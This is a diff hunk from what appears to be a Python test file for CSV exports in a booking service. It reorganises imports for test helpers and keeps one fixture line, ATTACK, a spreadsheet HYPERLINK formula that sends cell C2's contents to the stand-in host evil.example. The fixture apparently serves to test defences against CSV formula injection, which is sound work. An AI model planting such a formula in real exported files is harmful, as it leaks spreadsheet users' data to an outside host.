@@ -11,10 +11,10 @@ from sqlmodel import select
 
 from service.csv_files import csv_text
 from service.models import Booking, Role, Topic
+from tests.bookings.test_event_console import KODOMO, _booked_day
 from tests.conftest import csrf_token
 from tests.factories import create_organisation, create_staff
-from tests.service.test_event_console import KODOMO, _booked_day
-from tests.service.test_staff_notices import login
+from tests.staff.test_staff_notices import login
 
 ATTACK = '=HYPERLINK("https://evil.example/?"&C2,"詳しくはこちら")'
 
